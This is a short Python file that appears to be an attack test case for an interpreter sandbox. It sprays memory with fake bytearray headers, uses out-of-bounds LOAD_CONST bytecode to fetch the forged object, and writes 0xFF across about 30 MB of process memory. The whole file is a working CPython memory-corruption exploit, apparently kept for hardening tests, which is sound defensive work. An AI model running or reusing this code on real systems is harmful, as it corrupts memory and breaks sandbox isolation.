# attacks: the interpreter with an object whose header the program wrote itself
# expect: any
# limits: wall_ms=500
# session: any
import dis, struct


def f():
    pass


def op(name, argument):
    return bytes([dis.opmap[name], argument])


spray = [struct.pack("<8I", 0x1000, id(bytearray), 0x7FFFFFFF, 0x7FFFFFFF, 0, 0, 0, 0) for _ in range(1000)]
fake = struct.pack("<I", id(spray[500]) + 16)
target = (fake, spray)
for index in range(1, 256):
    f.__code__ = f.__code__.replace(
        co_code=op("RESUME", 0) + op("LOAD_CONST", index) + op("RETURN_VALUE", 0)
    )
    found = f()
    if type(found) is bytearray:
        for i in range(0, 30_000_000, 4096):
            found[i] = 0xFF
